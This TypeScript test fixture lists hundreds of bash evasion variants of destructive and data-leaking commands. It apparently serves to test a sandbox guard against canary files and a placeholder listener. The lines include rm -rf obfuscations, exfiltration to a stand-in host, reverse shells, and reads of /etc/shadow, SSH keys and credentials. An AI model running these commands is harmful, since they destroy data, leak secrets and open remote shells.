// Ways to write a command that destroys or leaks, as data. Each is a line for bash. `DIR` is a folder with
// canary files outside of what was granted, `FILE` one of them, `URL`, `HOST` and `PORT` a listener that must
// never be reached, `CANARY_SECRET` a variable of the owner's, `FILE` holds the same text.

/** What the canaries would show if it worked. */
export type Harm = 'destroys' | 'leaks'

export interface Attack {
  readonly line: string
  readonly harm: Harm
}

const DESTROYS = String.raw`
rm -rf DIR
rm  -rf  DIR
rm -r -f DIR
rm -fr DIR/
rm --recursive --force DIR
rm -rf -- DIR
rm -rf DIR/*
rm -rf DIR/../$(basename DIR)
rm -rf ///DIR
/bin/rm -rf DIR
/usr/bin/../bin/rm -rf DIR
command rm -rf DIR
builtin command rm -rf DIR
exec rm -rf DIR
\rm -rf DIR
r\m -rf DIR
'rm' -rf DIR
"rm" -rf DIR
r''m -rf DIR
r""m -rf DIR
'r'"m" -rf DIR
$'rm' -rf DIR
$'\x72\x6d' -rf DIR
$'\162\155' -rf DIR
$'\u0072m' -rf DIR
rm$IFS-rf${'$'}{IFS}DIR
rm${'$'}{IFS}-rf${'$'}{IFS}DIR
{rm,-rf,DIR}
x=rm; $x -rf DIR
x=r; y=m; $x$y -rf DIR
x=xrmx; ${'$'}{x:1:2} -rf DIR
x=rm; ${'$'}{x} -rf DIR
x='rm -rf DIR'; $x
x='rm -rf DIR'; eval $x
eval rm -rf DIR
eval "r""m -rf DIR"
eval 'eval "rm -rf DIR"'
eval "$(echo rm -rf DIR)"
$(echo rm) -rf DIR
${'`'}echo rm${'`'} -rf DIR
$(printf rm) -rf DIR
$(printf '\x72\x6d') -rf DIR
$(echo mr | rev) -rf DIR
echo 'rm -rf DIR' | sh
echo 'rm -rf DIR' | bash -s
printf 'rm -rf %s' DIR | sh
sh -c 'rm -rf DIR'
bash -c "rm -rf DIR"
bash -lc 'rm -rf DIR'
sh -ec 'rm -rf DIR'
dash -c 'rm -rf DIR'
sh -c 'sh -c "rm -rf DIR"'
sh -c 'rm -rf "$1"' x DIR
sh <<< 'rm -rf DIR'
bash <(echo 'rm -rf DIR')
source <(echo 'rm -rf DIR')
. /dev/stdin <<< 'rm -rf DIR'
sh /dev/stdin <<< 'rm -rf DIR'
env rm -rf DIR
env -i PATH=/bin rm -rf DIR
env A=b rm -rf DIR
env -S 'rm -rf DIR'
env -S'rm -rf' DIR
env --split-string='rm -rf DIR'
env -u X sh -c 'rm -rf DIR'
nice rm -rf DIR
nice -n 5 rm -rf DIR
nohup rm -rf DIR
timeout 5 rm -rf DIR
timeout -k 1 5s rm -rf DIR
setsid rm -rf DIR
stdbuf -o0 rm -rf DIR
ionice -c 3 rm -rf DIR
sudo rm -rf DIR
sudo -u root -- rm -rf DIR
sudo -n sh -c 'rm -rf DIR'
doas rm -rf DIR
su -c 'rm -rf DIR'
su root -c 'rm -rf DIR'
pkexec rm -rf DIR
busybox rm -rf DIR
busybox sh -c 'rm -rf DIR'
toybox rm -rf DIR
chroot / rm -rf DIR
unshare -r rm -rf DIR
nsenter -t 1 -m rm -rf DIR
setpriv --reuid 0 rm -rf DIR
flock /tmp/l rm -rf DIR
flock /tmp/l -c 'rm -rf DIR'
script -qc 'rm -rf DIR' /dev/null
xargs rm -rf <<< DIR
echo DIR | xargs rm -rf
echo DIR | xargs -I{} rm -rf {}
echo 'rm -rf DIR' | xargs -I{} sh -c {}
printf '%s\0' DIR | xargs -0 rm -rf
find DIR -delete
find DIR -type f -exec rm {} +
find DIR -type f -exec rm -f {} \;
find DIR -execdir sh -c 'rm -f "$0"' {} \;
find DIR -exec unlink {} \;
find DIR -type f -print0 | xargs -0 rm
find DIR -type f | while read -r f; do rm "$f"; done
for f in DIR/*; do rm -f "$f"; done
for i in 1; do rm -rf DIR; done
while :; do rm -rf DIR; break; done
until rm -rf DIR; do :; done
if true; then rm -rf DIR; fi
if false; then :; else rm -rf DIR; fi
case x in x) rm -rf DIR;; esac
true && rm -rf DIR
false || rm -rf DIR
(rm -rf DIR)
{ rm -rf DIR; }
( ( rm -rf DIR ) )
rm -rf DIR & wait
: | rm -rf DIR
f() { rm -rf "$1"; }; f DIR
f() { "$@"; }; f rm -rf DIR
function g { rm -rf DIR; }; g
ls() { command rm -rf DIR; }; ls
alias l='rm -rf DIR'; eval l
shopt -s expand_aliases; alias l='rm -rf DIR'
trap 'rm -rf DIR' EXIT
trap 'rm -rf DIR' DEBUG; :
PROMPT_COMMAND='rm -rf DIR' bash -i -c :
BASH_ENV=<(echo 'rm -rf DIR') bash -c :
set -- rm -rf DIR; "$@"
a=(rm -rf DIR); "${'$'}{a[@]}"
: "${'$'}(rm -rf DIR)"
: <(rm -rf DIR)
echo > >(rm -rf DIR)
x=${'$'}(rm -rf DIR)
((x=$(rm -rf DIR; echo 1)))
[[ -n $(rm -rf DIR) ]]
cat <<< "$(rm -rf DIR)"
echo ${'$'}{x:-$(rm -rf DIR)}
echo cm0gLXJmIERJUg== | base64 -d | sed s,DIR,"DIR", | sh
echo $(echo cm0gLXJm | base64 -d) DIR | sh
echo 'RID fr- mr' | rev | sh
echo 726d202d7266 | xxd -r -p; $(echo 726d | xxd -r -p) -rf DIR
printf '\162\155\40-rf DIR' | sh
echo 'rm -rf DIR' | tr a-z a-z | bash
echo 'rm -rf DIR' | gzip -c | gunzip -c | sh
openssl enc -base64 -d <<< cm0gLXJmIC9u | sh; rm -rf DIR
echo -e '\x72\x6d -rf DIR' | bash
bash -c "$(printf 'rm -rf %q' DIR)"
unlink FILE
shred -u FILE
shred FILE
truncate -s 0 FILE
: > FILE
> FILE
echo x > FILE
echo x >| FILE
cat /dev/null > FILE
cp /dev/null FILE
mv FILE /dev/null
mv DIR /tmp/gone
mv FILE FILE.bak
dd if=/dev/zero of=FILE bs=1 count=9
dd of=FILE < /dev/null
tee FILE < /dev/null
install /dev/null FILE
ln -sf /dev/null FILE
sed -i d FILE
sed -i.bak 's/./x/g' FILE
sed -n '1e rm -rf DIR' /etc/hostname
sed '1s,.*,rm -rf DIR,e' /etc/hostname
awk 'BEGIN { system("rm -rf DIR") }'
awk 'BEGIN { printf "" > "FILE" }'
awk 'BEGIN { "rm -rf DIR" | getline }'
perl -e 'unlink "FILE"'
perl -e 'system("rm -rf DIR")'
perl -e 'exec qw(rm -rf DIR)'
perl -MFile::Path -e 'File::Path::remove_tree("DIR")'
perl -e '${'`'}rm -rf DIR${'`'}'
perl -pi -e 's/.//g' FILE
perl <<< 'unlink "FILE"'
echo 'unlink "FILE"' | perl
python3 -c 'import shutil; shutil.rmtree("DIR")'
python3 -c 'import os; os.remove("FILE")'
python3 -c 'import os; os.system("rm -rf DIR")'
python3 -c 'open("FILE","w").close()'
python3 -c '__import__("os").system("rm -rf DIR")'
python3 -c 'import subprocess as s; s.run(["rm","-rf","DIR"])'
python3 -c 'exec(bytes.fromhex("696d706f7274206f73").decode()); os.remove("FILE")'
python3 <<< 'import os; os.remove("FILE")'
echo 'import os; os.remove("FILE")' | python3 -
ruby -e 'File.delete("FILE")'
ruby -rfileutils -e 'FileUtils.rm_rf("DIR")'
node -e 'require("fs").rmSync("DIR",{recursive:true})'
node -e 'require("child_process").execSync("rm -rf DIR")'
php -r 'unlink("FILE");'
lua -e 'os.remove("FILE")'
tclsh <<< 'file delete -force DIR'
vim -es -c '!rm -rf DIR' -c q
ex -s -c '!rm -rf DIR' -c q
ed -s FILE <<< $'1,$d\nw'
gdb -batch -ex 'shell rm -rf DIR'
make -f - <<< $'x:\n\trm -rf DIR'
make --eval $'x:\n\trm -rf DIR' x
tar cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec='rm -rf DIR'
tar cf /tmp/x.tar --remove-files DIR
zip -qm /tmp/x.zip FILE
rsync -a --delete /var/empty/ DIR/
git -c alias.x='!rm -rf DIR' x
git -c core.pager='rm -rf DIR' -p log
git -c core.fsmonitor='rm -rf DIR' status
git -c core.sshCommand='rm -rf DIR' ls-remote ssh://localhost/x
git -c core.editor='rm -rf DIR' commit --allow-empty
git -c diff.external='rm -rf DIR' diff
git init -q . && printf '#!/bin/sh\nrm -rf DIR\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git -c user.name=a -c user.email=b commit -q --allow-empty -m x
git config core.fsmonitor 'rm -rf DIR'
git config alias.st '!rm -rf DIR'
git ls-remote 'ext::sh -c rm% -rf% DIR'
git clone -u 'rm -rf DIR' . x
git -C DIR clean -fdx
git submodule foreach 'rm -rf DIR'
git bisect run rm -rf DIR
GIT_SSH_COMMAND='rm -rf DIR' git fetch ssh://localhost/x
GIT_EXTERNAL_DIFF='rm -rf DIR' git diff
GIT_PAGER='rm -rf DIR' git -p log
PAGER='rm -rf DIR' man ls
EDITOR='rm -rf DIR' crontab -e
LESSOPEN='|rm -rf DIR %s' less /etc/hostname
printf '{"scripts":{"x":"rm -rf DIR"}}' > package.json; npm run x
npm pkg set scripts.test='rm -rf DIR'
npm exec -c 'rm -rf DIR'
npx -c 'rm -rf DIR'
npm config set script-shell /tmp/x
printf 'all:\n\trm -rf DIR\n' > Makefile; make
printf '#!/bin/sh\nrm -rf DIR\n' > x; chmod +x x; ./x
printf 'rm -rf DIR\n' > x; sh x
printf 'rm -rf DIR\n' > x; . ./x
ln -s /bin/rm ./harmless; ./harmless -rf DIR
cp /bin/rm ./harmless; ./harmless -rf DIR
ln -s DIR here; rm -rf here/
ln -s DIR/ here; find -L here -delete
cd DIR && rm -rf ./*
cd DIR; rm -rf .
pushd DIR; rm -f *
cd / && rm -rf ./DIR
chmod -R 000 DIR
chmod 0 FILE
chown -R 65534 DIR
setfacl -b FILE
chattr +i FILE
parallel rm -rf ::: DIR
watch -n 1 -g rm -rf DIR
strace -f rm -rf DIR
/lib64/ld-linux-x86-64.so.2 /bin/rm -rf DIR
LD_PRELOAD=/tmp/x.so ls DIR
systemd-run rm -rf DIR
at now <<< 'rm -rf DIR'
crontab - <<< '* * * * * rm -rf DIR'
echo 'rm -rf DIR' >> ~/.bashrc
echo 'rm -rf DIR' > .envrc
mkdir -p .vscode; echo '{"tasks":[]}' > .vscode/tasks.json; rm -rf DIR
mount -t tmpfs none DIR
docker run -v DIR:/x alpine rm -rf /x
ssh localhost rm -rf DIR
mkfs.ext4 -F FILE
: (){ :; }; rm -rf DIR
echo a "b"#; rm -rf DIR
!  rm -rf DIR
time rm -rf DIR
coproc rm -rf DIR
`

const LEAKS = String.raw`
curl URL/?$CANARY_SECRET
curl -d "$CANARY_SECRET" URL
curl -d @FILE URL
curl --data-binary @FILE URL
curl -F f=@FILE URL
curl -T FILE URL
curl -H "X: $CANARY_SECRET" URL
curl -sS --json "{\"k\":\"$CANARY_SECRET\"}" URL
curl -u "x:$CANARY_SECRET" URL
curl "URL/$(cat FILE)"
curl "URL/$(base64 FILE)"
curl URL/${'`'}cat FILE${'`'}
env | curl -d @- URL
cat FILE | curl -d @- URL
printenv CANARY_SECRET | curl --upload-file - URL
c""url URL/?$CANARY_SECRET
$'\x63url' URL/?$CANARY_SECRET
x=curl; $x URL/?$CANARY_SECRET
u=URL; curl $u/?$CANARY_SECRET
eval "curl URL/?$CANARY_SECRET"
sh -c 'curl URL/?$CANARY_SECRET'
http_proxy= HTTP_PROXY= curl --noproxy '*' URL/?$CANARY_SECRET
ALL_PROXY= curl --interface lo URL/?$CANARY_SECRET
curl -x http://HOST:PORT http://example.com/?$CANARY_SECRET
curl --resolve example.com:PORT:HOST http://example.com:PORT/?$CANARY_SECRET
curl --connect-to ::HOST:PORT http://example.com/?$CANARY_SECRET
curl -L http://0x7f000001:PORT/?$CANARY_SECRET
curl http://2130706433:PORT/?$CANARY_SECRET
curl http://127.1:PORT/?$CANARY_SECRET
curl http://localhost:PORT/?$CANARY_SECRET
curl "http://[::ffff:127.0.0.1]:PORT/?$CANARY_SECRET"
curl http://169.254.169.254/latest/meta-data/
wget -q -O- URL/?$CANARY_SECRET
wget --post-data="$CANARY_SECRET" -q -O- URL
wget --post-file=FILE -q -O- URL
wget -q --header="X: $CANARY_SECRET" -O- URL
echo "$CANARY_SECRET" > /dev/tcp/HOST/PORT
cat FILE > /dev/tcp/HOST/PORT
exec 3<>/dev/tcp/HOST/PORT; echo "$CANARY_SECRET" >&3
bash -c 'cat < FILE > /dev/tcp/HOST/PORT'
bash -i >& /dev/tcp/HOST/PORT 0>&1
env > /dev/udp/HOST/PORT
cat FILE | nc HOST PORT
nc HOST PORT < FILE
nc -e /bin/sh HOST PORT
ncat HOST PORT -c 'cat FILE'
socat - TCP:HOST:PORT < FILE
socat EXEC:/bin/sh TCP:HOST:PORT
telnet HOST PORT < FILE
openssl s_client -connect HOST:PORT < FILE
busybox nc HOST PORT < FILE
busybox wget -q -O- URL/?$CANARY_SECRET
mkfifo p; sh -i < p 2>&1 | nc HOST PORT > p
perl -MIO::Socket::INET -e 'print {IO::Socket::INET->new("HOST:PORT")} $ENV{CANARY_SECRET}'
perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,0); connect(S,sockaddr_in(PORT,inet_aton("HOST"))); print S $ENV{CANARY_SECRET}'
perl -MHTTP::Tiny -e 'HTTP::Tiny->new->get("URL/".$ENV{CANARY_SECRET})'
python3 -c 'import os,urllib.request as u; u.urlopen("URL/?"+os.environ["CANARY_SECRET"])'
python3 -c 'import socket,os; s=socket.create_connection(("HOST",PORT)); s.send(os.environ["CANARY_SECRET"].encode())'
python3 -c 'import socket; s=socket.create_connection(("HOST",PORT)); s.send(open("FILE","rb").read())'
python3 -m http.server PORT --directory DIR & sleep 0.1; kill $!
node -e 'fetch("URL/?"+process.env.CANARY_SECRET)'
node -e 'require("net").connect(PORT,"HOST").end(process.env.CANARY_SECRET)'
node -e 'require("net").connect(PORT,"HOST").end(require("fs").readFileSync("FILE"))'
node -e 'require("dns").resolve(process.env.CANARY_SECRET+".example.com",()=>{})'
ruby -rsocket -e 'TCPSocket.new("HOST",PORT).write(ENV["CANARY_SECRET"])'
php -r 'fwrite(fsockopen("HOST",PORT),getenv("CANARY_SECRET"));'
lua -e 'os.execute("curl URL/?$CANARY_SECRET")'
awk 'BEGIN { s="/inet/tcp/0/HOST/PORT"; print ENVIRON["CANARY_SECRET"] |& s }'
gawk 'BEGIN { s="/inet/tcp/0/HOST/PORT"; while ((getline l < "FILE") > 0) print l |& s }'
dig $(cat FILE).example.com
nslookup $CANARY_SECRET.example.com
host $CANARY_SECRET.example.com
ping -c1 $CANARY_SECRET.example.com
getent hosts $CANARY_SECRET.example.com
ssh -p PORT HOST "$CANARY_SECRET"
ssh -o ProxyCommand='nc HOST PORT < FILE' x
cat FILE | ssh -p PORT HOST cat
scp -P PORT FILE HOST:x
rsync FILE rsync://HOST:PORT/x
rsync -e 'nc HOST PORT <FILE #' a b:c
sftp -P PORT HOST <<< 'put FILE'
git push http://HOST:PORT/x HEAD
git push "http://$CANARY_SECRET@HOST:PORT/x" HEAD
git clone "URL/$CANARY_SECRET"
git ls-remote "URL/$(cat FILE)"
git -c http.proxy=URL ls-remote http://example.com/$CANARY_SECRET
git remote add x URL/$CANARY_SECRET && git fetch x
npm publish --registry URL
npm install --registry URL/$CANARY_SECRET x
npm view x --registry URL/$CANARY_SECRET
pip install --index-url URL/$CANARY_SECRET x
pip download -i URL/$CANARY_SECRET x
cargo publish --index URL
gem push --host URL x.gem
mail -s "$CANARY_SECRET" a@example.com < FILE
logger -n HOST -P PORT -T "$CANARY_SECRET"
aws s3 cp FILE s3://x/
gsutil cp FILE gs://x/
rclone copy FILE remote:x
docker run -e CANARY_SECRET alpine wget URL
kubectl create secret generic x --from-file=FILE
gh gist create FILE
cat FILE
base64 FILE
xxd FILE
od -c FILE
head -c 99 FILE
tail FILE
less FILE
grep . FILE
sed -n p FILE
awk 1 FILE
cut -c1- FILE
sort FILE
tac FILE
rev FILE
strings FILE
diff FILE /dev/null
cp FILE ./copy
ln FILE ./copy
ln -s FILE ./copy; cat ./copy
tar c FILE
zip -q - FILE
dd if=FILE
while read -r l; do echo "$l"; done < FILE
mapfile -t a < FILE; echo "${'$'}{a[@]}"
echo "$(< FILE)"
. FILE
bash FILE
python3 -c 'print(open("FILE").read())'
perl -pe 1 FILE
node -p 'require("fs").readFileSync("FILE","utf8")'
php -r 'echo file_get_contents("FILE");'
cat DIR/../$(basename DIR)/$(basename FILE)
cd DIR; cat *
cat /proc/self/root/FILE
cat /proc/1/root/FILE
cat /proc/$PPID/environ
cat /proc/*/environ
strings /proc/1/environ
tr '\0' '\n' < /proc/self/environ
env
printenv
set
export -p
declare -p
echo $CANARY_SECRET
printf %s "${'$'}{CANARY_SECRET}"
x=CANARY_SECRET; echo ${'$'}{!x}
python3 -c 'import os; print(os.environ)'
node -p process.env
perl -e 'print %ENV'
ruby -e 'p ENV'
awk 'BEGIN { for (k in ENVIRON) print ENVIRON[k] }'
jq -n env
ps auxeww
cat ~/.ssh/id_rsa ~/.aws/credentials
cat /etc/shadow
find / -name '*canary*' -exec cat {} + 2>/dev/null
grep -r canary / --include='*canary*' -s
gpg --export-secret-keys
security find-generic-password -w x
`

/** Here-documents take more than one line. */
const DOCUMENTS: readonly Attack[] = [
  { line: 'sh <<E\nrm -rf DIR\nE', harm: 'destroys' },
  { line: "cat <<'E' | sh\nrm -rf DIR\nE", harm: 'destroys' },
  { line: 'bash <<-E\n\trm -rf DIR\n\tE', harm: 'destroys' },
  { line: 'python3 - <<E\nimport os\nos.remove("FILE")\nE', harm: 'destroys' },
  { line: 'cat > x.sh <<E\nrm -rf DIR\nE\nsh x.sh', harm: 'destroys' },
  { line: 'x=$(cat <<E\nrm -rf DIR\nE\n)\n$x', harm: 'destroys' },
  { line: 'perl <<\\E\nsystem("rm -rf DIR")\nE', harm: 'destroys' },
  { line: 'curl -d @- URL <<E\n$CANARY_SECRET\nE', harm: 'leaks' },
  { line: 'r\\\nm -rf DIR', harm: 'destroys' },
  { line: 'if :\nthen\nrm -rf DIR\nfi', harm: 'destroys' }
]

function listed(text: string, harm: Harm): readonly Attack[] {
  const lines = text.split('\n').filter((line) => line !== '')
  return lines.map((line) => ({ line, harm }))
}

export const ATTACKS: readonly Attack[] = [
  ...listed(DESTROYS, 'destroys'),
  ...listed(LEAKS, 'leaks'),
  ...DOCUMENTS
]

export interface Canaries {
  readonly dir: string
  readonly file: string
  readonly host: string
  readonly port: number
}

/** The line with real places in it. */
export function aimed({ line }: Attack, { dir, file, host, port }: Canaries): string {
  return line
    .replaceAll('URL', `http://${host}:${port}`)
    .replaceAll('DIR', dir)
    .replaceAll('FILE', file)
    .replaceAll('HOST', host)
    .replaceAll('PORT', String(port))
}
